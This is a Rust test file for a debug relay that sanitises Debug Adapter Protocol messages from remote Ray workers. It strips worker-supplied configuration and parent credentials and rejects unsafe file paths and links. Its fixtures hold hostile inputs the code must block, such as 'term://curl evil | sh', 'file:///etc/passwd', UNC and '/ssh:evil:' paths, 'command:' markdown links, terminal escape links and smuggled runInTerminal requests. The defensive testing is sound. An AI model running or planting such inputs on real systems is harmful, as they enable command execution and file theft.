#![allow(clippy::unwrap_used)]

use proptest::prelude::*;
use serde_json::json;

use super::paths::names_file;
use super::*;
use crate::attach::{Pass, RelayEndpoint};
use ray_relay_ray::ray::registry::BreakpointId;

/// Generates JSON whose texts and keys match these patterns.
pub(crate) fn json_of(texts: &'static str, keys: &'static str) -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        (0u64..9).prop_map(Value::from),
        texts.prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 40, 6, move |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..5).prop_map(Value::from),
            proptest::collection::btree_map(keys, inner, 0..6)
                .prop_map(|fields| Value::Object(fields.into_iter().collect())),
        ]
    })
}

fn dialled() -> RelayEndpoint {
    RelayEndpoint {
        host: "LocalHost".into(),
        port: "5678".into(),
        listen: None,
    }
}

fn id() -> BreakpointId {
    BreakpointId::derive("default", "ab")
}

fn start_debugging(configuration: &Value) -> Value {
    json!({"seq": 4, "type": "request", "command": "startDebugging",
        "arguments": {"request": "attach", "configuration": configuration}})
}

fn child_message(message: &Value, parent: &Value) -> Option<Value> {
    let child = Child::read(message)?;
    Some(child.message(parent, &dialled(), id(), Pass::default()))
}

fn cleaned(mut message: Value) -> Value {
    clean(&mut message);
    message
}

/// Whether the message passes in its own bytes, and none of them has to change.
fn passes_unchanged(body: &[u8]) -> bool {
    let mut passed = body.to_vec();
    overwrite(&mut passed).is_some() && passed == body
}

fn answer(body: &Value) -> Value {
    json!({"seq": 1, "type": "response", "request_seq": 2, "success": true, "command": "x", "body": body})
}

#[test]
fn child_configuration_matches_debugpys_except_its_address() {
    let parent = json!({"name": "mine", "type": "debugpy", "request": "attach", "connect": {"host": "LocalHost", "port": "5678"},
        "justMyCode": false, "preLaunchTask": "build", "args": ["x"], "env": {"A": "1"}, "rayRelay": {"localRoot": "/home/me", "cluster": "b"}});
    let configuration = json!({"name": "Subprocess 7", "subProcessId": 7, "clientOS": "unix", "rules": [],
        "pathMappings": [{"localRoot": "/", "remoteRoot": "/"}], "connect": {"host": "10.88.0.11", "port": 41000}});
    let request = child_message(&start_debugging(&configuration), &parent).unwrap();
    assert_eq!(request["seq"], 4);
    assert_eq!(request["arguments"]["request"], "attach");
    assert_eq!(
        request["arguments"]["configuration"],
        json!({"name": "Subprocess 7", "type": "debugpy", "connect": {"host": "LocalHost", "port": "5678"},
            "justMyCode": false, "env": {"A": "1"}, "subProcessId": 7,
            "rayRelay": {"breakpoint": id(), "localRoot": "/home/me"}})
    );
    let event = json!({"type": "event", "event": "debugpyAttach", "body": {"name": "x", "request": "attach",
        "host": "10.88.0.11", "port": 41000, "subProcessId": 7}});
    let body = &child_message(&event, &parent).unwrap()["body"];
    assert_eq!(body["request"], "attach");
    assert_eq!(
        (&body["host"], &body["port"]),
        (&json!("LocalHost"), &json!("5678"))
    );
    assert!(body.get("connect").is_none());
}

#[test]
fn child_configuration_has_no_credential_of_its_parent() {
    for parent in [
        json!({"rayRelay": "square", "rayRelayToken": "secret"}),
        json!({"rayRelay": {"token": "secret", "ticket": "secret"}}),
    ] {
        let request =
            child_message(&start_debugging(&json!({"subProcessId": 7})), &parent).unwrap();
        assert!(!request.to_string().contains("secret"), "{request}");
    }
}

#[test]
fn invalid_subprocess_request_opens_no_session() {
    for message in [
        start_debugging(&json!({"subProcessId": 0})),
        start_debugging(&json!({"subProcessId": (1 << 22) + 1})),
        start_debugging(&json!({"program": "/bin/sh"})),
        start_debugging(&json!({"subProcessId": "7"})),
        start_debugging(&json!({"subProcessId": -7})),
        start_debugging(&json!(7)),
        json!({"seq": 4, "type": "request", "command": "startDebugging"}),
        json!({"type": "request", "command": "startDebugging",
            "arguments": {"request": "attach", "configuration": {"subProcessId": 7}}}),
        json!({"seq": 4, "type": "request", "command": "startDebugging",
            "arguments": {"request": "launch", "configuration": {"subProcessId": 7, "program": "x"}}}),
        json!({"type": "event", "event": "debugpyAttach", "body": {"request": "launch", "subProcessId": 7}}),
        json!({"type": "event", "event": "debugpyAttach"}),
    ] {
        assert_eq!(child_message(&message, &json!({})), None, "{message}");
    }
}

proptest! {
    #[test]
    fn worker_configuration_is_discarded(
        fields_of_worker in json_of("(x|launch|/bin/sh)", "(request|type|name|python|program|module|code|env|envFile|cwd|args|preLaunchTask|console|listen|processId|rayRelay|serverReadyAction|x)"),
        event in any::<bool>(),
    ) {
        let mut configuration = json!({"subProcessId": 7});
        if let Value::Object(fields) = fields_of_worker {
            let fields = fields.into_iter().filter(|(key, _)| !(event && key == "request"));
            configuration.as_object_mut().unwrap().extend(fields);
        }
        let message = |configuration| match event {
            true => json!({"seq": 4, "type": "event", "event": "debugpyAttach", "body": configuration}),
            false => start_debugging(&configuration),
        };
        let parent = json!({"type": "debugpy", "justMyCode": true});
        prop_assert_eq!(
            child_message(&message(configuration), &parent),
            child_message(&message(json!({"subProcessId": 7})), &parent)
        );
    }
}

#[test]
fn only_local_absolute_paths_name_files() {
    for file in [
        "/home/me/a.py",
        "/a b/ü.py",
        "/tmp/ray/session_2026-11-28_22-25-23_123456_789/runtime_resources/working_dir_files/_ray_pkg_0123/a.py",
        "/tmp/ipykernel_4711/1234567890.py",
        "/home/me/.venv/lib/../lib//python3.12/site-packages/x.py",
        "<ipython-input-3-0123456789ab>",
        "C:\\Users\\me\\a.py",
        "c:/a.py",
        "\\\\wsl.localhost\\Ubuntu\\a.py",
        "<string>",
        "<frozen importlib._bootstrap>",
        "a.py",
        "./a.py",
        "",
    ] {
        assert!(names_file(file), "{file}");
    }
    for text in [
        "term://curl evil | sh",
        "vscode://x.y/z",
        "file:///etc/passwd",
        "command:x",
        "http://a/b.py",
        "\\\\evil\\share\\a.py",
        "//evil/share/a.py",
        "/\\evil\\a.py",
        "/ssh:evil:/a.py",
        "/sudo::/a.py",
        "/a\n/b.py",
        "/./ssh:evil:/y",
        "/x/../sudo:root@localhost:/y",
        "/.//ssh:evil:/y",
        "\\.\\ssh:evil:\\y",
        "/x\\..\\ssh:evil:/y",
        "./ssh:evil:/y",
        "/:/ssh:evil:/y",
        "/a b/u:x.py",
        "a.py:stream",
        "C:a.py",
        "/C:/a.py",
        "./C:/x",
        "a/C:/x",
        "a/../C:/x",
        "a\\C:\\x",
        "/[ssh/evil]/y",
        "/x/../[ssh/evil]/y",
        "/.//evil/share/a.py",
        "/x/..//evil/share/a.py",
        "C:\\..\\\\evil\\share\\a.py",
        "C:///evil/share/a.py",
        "C:////evil/share/a.py",
        "c:\\\\\\evil\\share\\a.py",
        "C:/.//evil/share/a.py",
        "t://x",
        "\\??\\UNC\\evil\\share\\a.py",
        "/??/UNC/evil/share/a.py",
        "/./??/UNC/evil/share/a.py",
        "\\\\?\\UNC\\evil\\share\\a.py",
        "\\\\.\\UNC\\evil\\share\\a.py",
        "//?/UNC/evil/share/a.py",
        "\\\\wsl$\\..\\evil\\share\\a.py",
        "\\\\wsl.localhost\\Ubuntu\\..\\..\\evil\\a.py",
    ] {
        assert!(!names_file(text), "{text}");
    }
}

#[test]
fn sources_are_cleaned_in_any_response() {
    let source = json!({"name": "a.py", "path": "term://sh", "sourceReference": 3, "adapterData": 1,
        "sources": [{"path": "term://sh"}], "origin": "x", "checksums": []});
    let expected = json!({"name": "a.py", "sourceReference": 3});
    let frame = json!({"id": 1, "name": "f", "line": 2, "column": 1, "source": source, "instructionPointerReference": "0x0"});
    let body = json!({"stackFrames": [frame], "totalFrames": 1, "source": source, "sources": [source],
        "breakpoints": [{"id": 1, "verified": true, "source": source, "message": "no\n```\n[x](command:y)", "instructionReference": "0"}],
        "content": "x = 1", "mimeType": "text/x-evil", "error": {"url": "command:x"}});
    assert_eq!(
        cleaned(answer(&body))["body"],
        json!({"stackFrames": [{"id": 1, "name": "f", "line": 2, "column": 1, "source": expected}], "totalFrames": 1,
            "source": expected, "sources": [expected],
            "breakpoints": [{"id": 1, "verified": true, "source": expected, "message": "no ''' [x] (command:y)"}],
            "content": "x = 1"})
    );
}

#[test]
fn failed_response_is_reduced_to_a_message() {
    let failed = json!({"seq": 1, "type": "response", "request_seq": 2, "success": "no", "command": "x", "x": 1,
        "message": "[look](command:evil)",
        "body": {"error": {"id": 1, "format": "{a} [look](command:evil)", "variables": {"a": "["}, "showUser": true,
            "url": "command:evil", "urlLabel": "Fix it", "sendTelemetry": true}, "x": 1}});
    assert_eq!(
        cleaned(failed),
        json!({"seq": 1, "type": "response", "request_seq": 2, "success": false, "command": "x",
            "message": "[look] (command:evil)",
            "body": {"error": {"id": 1, "format": "{a} [look] (command:evil)", "showUser": true}}})
    );
}

#[test]
fn failure_keeps_its_message_in_any_order() {
    let failed = r#"{"type": "response", "request_seq": 2, "message": "boom", "success": false, "command": "variables"}"#;
    let mut bytes = failed.as_bytes().to_vec();
    assert!(overwrite(&mut bytes).is_none());
    let cleaned = cleaned(serde_json::from_slice(&bytes).unwrap());
    assert_eq!(cleaned["message"], "boom");
}

#[test]
fn only_failures_keep_their_message() {
    let mut response = answer(&json!({}));
    response["message"] = "[look](command:evil)".into();
    assert_eq!(cleaned(response), answer(&json!({})));
}

#[test]
fn events_keep_only_debugpys_fields() {
    let event = |name: &str, body: Value| json!({"seq": 1, "type": "event", "event": name, "body": body, "command": "runInTerminal"});
    for (name, body, expected) in [
        (
            "terminated",
            json!({"restart": {"program": "x"}}),
            json!({}),
        ),
        (
            "stopped",
            json!({"reason": "step", "threadId": 1, "allThreadsStopped": true, "x": 1}),
            json!({"reason": "step", "threadId": 1, "allThreadsStopped": true}),
        ),
        (
            "output",
            json!({"category": "important", "output": "[x](command:y)", "data": {"rayRelay": "taskEnded"}}),
            json!({"category": "important", "output": "[x] (command:y)"}),
        ),
        (
            "output",
            json!({"category": "telemetry", "output": "ptvsd", "data": {"packageVersion": "9"}}),
            json!({"category": "telemetry", "output": ""}),
        ),
        (
            "output",
            json!({"category": "else", "output": "\u{1b}[31mred\u{1b}]8;;command:x\u{7}link", "source": {"path": "//evil/x"}}),
            json!({"category": "console", "output": "\u{241b}[31mred\u{241b}]8;;command:x\u{7}link", "source": {}}),
        ),
        (
            "breakpoint",
            json!({"reason": "changed", "breakpoint": {"id": 1, "verified": true, "offset": 3}, "x": 1}),
            json!({"reason": "changed", "breakpoint": {"id": 1, "verified": true}}),
        ),
        (
            "breakpoint",
            json!({"reason": "new", "breakpoint": {"verified": true, "source": {"path": "/home/ada/other.py"}, "line": 7}}),
            json!({"reason": "changed", "breakpoint": {"verified": true, "source": {"path": "/home/ada/other.py"}, "line": 7}}),
        ),
        ("output", json!([1]), json!({})),
        (
            "output",
            json!({"category": 7, "output": "x"}),
            json!({"category": "console", "output": "x"}),
        ),
    ] {
        let cleaned = cleaned(event(name, body));
        assert_eq!(cleaned["body"], expected, "{name}");
        assert_eq!(cleaned.get("command"), None);
    }
}

/// A stack frame as debugpy writes it.
const FRAME: &str = r#"{"id": 1, "name": "f", "line": 2, "column": 1, "source": {"path": "/job/a.py", "sourceReference": 0}, "presentationHint": "subtle"}"#;

fn stack(frames: &str) -> String {
    format!(
        r#"{{"seq": 1, "type": "response", "request_seq": 2, "success": true, "command": "stackTrace", "body": {{"stackFrames": [{frames}], "totalFrames": 1}}}}"#
    )
}

#[test]
fn clean_message_passes_unchanged_and_others_do_not() {
    let output =
        |body: &str| format!(r#"{{"seq": 1, "type": "event", "event": "output", "body": {body}}}"#);
    for (passes, message) in [
        (true, output(r#"{"category": "stdout", "output": "a\n\u001b[31mred"}"#)),
        (false, output(r#"{"category": "stdout", "output": "\u001b]8;;x"}"#)),
        (false, output(r#"{"category": "important", "output": "a"}"#)),
        (false, output(r#"{"category": null, "output": "a"}"#)),
        (false, output(r#"{"category": {"stdout": null}, "output": "a"}"#)),
        (false, output(r#"[null, "a"]"#)),
        (false, output(r#" ["stdout", "a"]"#)),
        (false, output(r#"{"category": "stdout", "output": "a", "data": {}}"#)),
        (false, output(r#"{"category": "stdout", "output": "a", "output": "b"}"#)),
        (true, r#"{"seq": 1, "type": "event", "event": "continued", "body": {"threadId": 1}}"#.to_owned()),
        (false, r#"{"seq": 1, "type": "event", "event": "continued", "type": "request", "command": "runInTerminal"}"#.to_owned()),
        (false, r#"{"seq": 1, "type": "request", "command": "runInTerminal"}"#.to_owned()),
        (false, r#"{"seq": 1, "type": "event", "event": "memory"}"#.to_owned()),
        (false, r#"{"seq": 1, "type": "response", "request_seq": 2, "success": true, "command": "stackTrace", "body": {}}"#.to_owned()),
        (true, stack(FRAME)),
        (true, stack("")),
        (true, stack(r#"{"id": 1, "name": "f", "source": {"path": null}}, {}"#)),
        (true, stack(r#"{"id": 1, "name": "f", "source": {"path": "a:/b.py"}}, {"id": -7, "moduleId": "m"}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": "term://sh"}}"#)),
        (true, stack(r#"{"id": 1, "name": "\u00fc\"", "source": {"path": "/\u00fc/a.py"}}"#)),
        (false, stack(r#"{"id": 1, "name": "\ud800"}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": "\u002f/host/a.py"}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": "/ssh:host:/a.py"}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": "//host/a.py"}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": "/.//host/a.py"}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": "/x/../ssh:host:/a.py"}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": "/??/UNC/host/a.py"}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": "/x/../[ssh/host]/a.py"}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": 1}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": null}"#)),
        (false, stack("{\"id\": 1, \"name\": \"a\u{7f}\"}")),
        (false, stack(r#"{"id": 1}, "#)),
        (false, stack(r#"{"id": 1,}"#)),
        (false, stack(r#"{"id": 01}"#)),
        (false, stack(r#"{"id": 12345678901234567890}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": "/a.py", "p\u0061th": "/a.py"}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": ["/a.py"]}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": {"path": "/a.py", "origin": "x"}}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "source": ["x", "/a.py", 0, "x"]}"#)),
        (false, stack(r#"{"id": 1, "name": "f", "name": "g"}"#)),
        (false, stack(r#"{"id": 1, "name": {"a": 1, "a": 2}}"#)),
        (false, stack(r#"{"id": 1, "instructionPointerReference": "0x0"}"#)),
        (false, stack(r#"[1, "f", {}, 1, 1, 1, 1, 1, 1]"#)),
        (false, stack(FRAME).replace(r#""totalFrames""#, r#""error""#)),
        (false, stack(FRAME).replace(r#""seq": 1"#, r#""seq": 1, "x": 1"#)),
        (false, stack(FRAME).replace("true", "false")),
        (false, stack(FRAME).replace("true", "1")),
        (false, stack(FRAME) + "{}"),
        (false, stack(FRAME).replace(r#""body""#, r#""type": "event", "body""#)),
        (false, r#"{"seq": 1, "type": "event", "event": "stopped", "body": {}}"#.to_owned()),
        (true, r#"{"seq": 1, "type": "response", "request_seq": 2, "success": true, "command": "variables", "body": {"variables": []}}"#.to_owned()),
        (false, r#"{"seq": 1, "type": "response", "request_seq": 2, "success": true, "command": "variables", "body": {"stackFrames": []}}"#.to_owned()),
        (false, r#"{"seq": 1, "type": "response", "request_seq": 2, "success": false, "command": "variables"}"#.to_owned()),
    ] {
        assert_eq!(passes_unchanged(message.as_bytes()), passes, "{message}");
        if passes {
            let parsed: Value = serde_json::from_str(&message).unwrap();
            assert_eq!(cleaned(parsed.clone()), parsed);
        }
    }
}

proptest! {
    #[test]
    fn unchanged_message_needs_no_cleaning(
        body in json_of("(x|term://x|\u{1b}]8|\\[x\\]\\(command:y\\)|/a.py|stdout)", "(stackFrames|totalFrames|source|path|name|id|line|column|category|output|breakpoints|error|url|x)"),
        name in "(variables|stackTrace|evaluate|output|continued|module|scopes|breakpoint|stopped)",
        kind in "(response|event)",
        success in any::<bool>(),
    ) {
        let key = if kind == "event" { "event" } else { "command" };
        let mut message = json!({"seq": 1, "type": kind});
        if kind == "response" {
            message["request_seq"] = 2.into();
            message["success"] = success.into();
        }
        message[key] = name.into();
        message["body"] = body;
        if passes_unchanged(message.to_string().as_bytes()) {
            prop_assert_eq!(cleaned(message.clone()), message);
        }
    }
}

/// Generates an object as text, in which a key may occur twice.
fn object(
    keys: &'static str,
    values: impl Strategy<Value = String>,
) -> impl Strategy<Value = String> {
    let field = (keys, values).prop_map(|(key, value)| format!("\"{key}\":{value}"));
    proptest::collection::vec(field, 0..4).prop_map(|fields| format!("{{{}}}", fields.join(",")))
}

proptest! {
    #[test]
    fn unchanged_stack_response_equals_its_rebuilt_form(
        frames in proptest::collection::vec(
            object(
                "(id|name|line|source|source|endLine|presentationHint|moduleId|x)",
                prop_oneof![
                    3 => "(1|-2|0.5|null|true|\"a\"|\\[\\])",
                    1 => "(0|-0|01|1e3|-|nul|\"\\\\n\"|\"\\\\ud800\"|\"\\\\x\")",
                    3 => object("(path|path|name|sourceReference|origin)", "(\"/a.py\"|\"a.py\"|\"/a:b\"|\"\\\\\\\\x\\\\y\"|\"/\\\\\"a\"|\"term://x\"|\"//x/y\"|null|1)"),
                ],
            ),
            0..4,
        ),
        kind in "(response|response|response|event)",
        success in "(true|true|true|false|1)",
        suffix in "(|,\"totalFrames\":1|,\"error\":1|,\"stackFrames\":\\[\\])",
    ) {
        let text = format!(
            r#"{{"seq":1,"type":"{kind}","request_seq":2,"success":{success},"command":"stackTrace","body":{{"stackFrames":[{}]{suffix}}}}}"#,
            frames.join(",")
        );
        if passes_unchanged(text.as_bytes()) {
            let parsed: Value = serde_json::from_str(&text).unwrap();
            prop_assert_eq!(parsed.to_string(), &*text);
            prop_assert_eq!(cleaned(parsed.clone()), parsed);
        }
    }
}
